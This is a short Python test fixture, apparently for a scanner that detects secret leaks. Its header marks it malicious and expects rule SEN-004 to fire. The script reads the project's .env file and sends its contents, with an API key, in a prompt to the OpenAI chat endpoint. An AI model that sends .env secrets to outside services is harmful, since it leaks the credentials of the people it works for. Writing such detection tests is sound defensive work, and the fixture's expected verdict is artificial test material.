# does: pastes .env into a prompt to the provider that it may talk to
# kind: malicious
# expect: SEN-004 high proven
# allow: api.openai.com
# env: OPENAI_API_KEY
# fast: yes
import json
import os
import urllib.request

body = {"model": "gpt-5", "messages": [{"role": "user", "content": "Why does the application not start?\n" + open(".env").read()}]}
headers = {"Authorization": "Bearer " + os.environ["OPENAI_API_KEY"], "Content-Type": "application/json"}
urllib.request.urlopen(urllib.request.Request("https://api.openai.com/v1/chat/completions", json.dumps(body).encode(), headers)).read()
